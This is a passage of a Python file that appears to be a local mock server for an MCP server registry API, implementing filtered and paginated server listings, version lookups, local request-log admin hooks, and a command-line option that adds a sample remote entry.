            if limit < 1:
                raise invalid("query.limit", "expected number >= 1", limit)
            if limit > 100:
                raise invalid("query.limit", "expected number <= 100", limit)
        include_deleted, deleted_set = parse_bool(query, "include_deleted")
        since = None
        if first("updated_since") != "":
            since = parse_time(first("updated_since"))
            if since is None:
                raise Problem(400, "Invalid updated_since format: expected RFC3339 timestamp "
                                   "(e.g., 2025-08-07T13:15:04.280Z)")
            if deleted_set and not include_deleted:
                raise Problem(400, "Cannot set include_deleted=false when using updated_since "
                                   "(incremental sync requires deleted servers)")
            include_deleted = True
        after = None
        if first("cursor") != "":
            after = decode_cursor(first("cursor"))
            if after is None:
                raise Problem(400, "Invalid cursor parameter")
        search = first("search").casefold()
        version = first("version")

        page = []
        for e in ENTRIES:
            s = e["server"]
            if after is not None and (s["name"], s["version"]) <= after:
                continue
            if search and search not in s["name"].casefold():
                continue
            if version == "latest" and not e["isLatest"]:
                continue
            if version not in ("", "latest") and s["version"] != version:
                continue
            if not include_deleted and e["status"] == "deleted":
                continue
            if since is not None and not e["updatedAt"] > since:
                continue
            page.append(e)
            if len(page) == limit:
                break
        metadata = {"count": len(page)}
        if len(page) == limit:
            metadata = {"nextCursor": encode_cursor(page[-1]), "count": len(page)}
        return {"servers": [response(e) for e in page], "metadata": metadata}

    def matching(self, name, include_deleted):
        return [e for e in ENTRIES if e["server"]["name"] == name
                and (include_deleted or e["status"] != "deleted")]

    def versions(self, name, include_deleted):
        found = self.matching(name, include_deleted)
        if not found:
            raise Problem(404, "Server not found")
        found.sort(key=lambda e: e["publishedAt"], reverse=True)
        return {"servers": [response(e) for e in found], "metadata": {"count": len(found)}}

    def one(self, name, version, include_deleted):
        for e in self.matching(name, include_deleted):
            if (e["isLatest"] if version == "latest" else e["server"]["version"] == version):
                return response(e)
        raise Problem(404, "Server not found")

    def admin(self, method, path):
        st = self.state
        if method == "GET" and path == "/_admin/requests":
            with st.lock:
                return self.send(200, list(st.requests))
        if method == "POST" and path == "/_admin/reset":
            with st.lock:
                st.requests.clear()
            return self.send(200, {"ok": True})
        return self.send(404, {"error": "unknown admin hook"})

    def do_GET(self):
        self.route("GET")

    def do_POST(self):
        self.route("POST")

    def do_PUT(self):
        self.route("PUT")

    def do_PATCH(self):
        self.route("PATCH")

    def do_DELETE(self):
        self.route("DELETE")


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--delay", type=float, default=0.0)
    p.add_argument("--local-remote", metavar="URL",
                   help="add io.example/local-remote 1.0.0: a streamable-http remote at URL whose "
                        "X-Api-Key header is required and secret")
    args = p.parse_args()
    if args.local_remote:
        ENTRIES.append(entry(detail(
            "io.example/local-remote", "1.0.0", "A local MCP server that checks its API key",
            remotes=[{
                "type": "streamable-http",
                "url": args.local_remote,
                "headers": [{"name": "X-Api-Key", "description": "The API key",
                             "isRequired": True, "isSecret": True}],
            }],
        ), "2026-03-01T00:00:00Z"))
        ENTRIES.sort(key=lambda e: (e["server"]["name"], e["server"]["version"]))
    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    server.state = State(args)
    server.state.port = server.server_address[1]
    sys.stdout.write(f"PORT {server.state.port}\n")
    sys.stdout.flush()
    try:
        server.serve_forever()
    except KeyboardInterrupt:
        pass


if __name__ == "__main__":
    main()
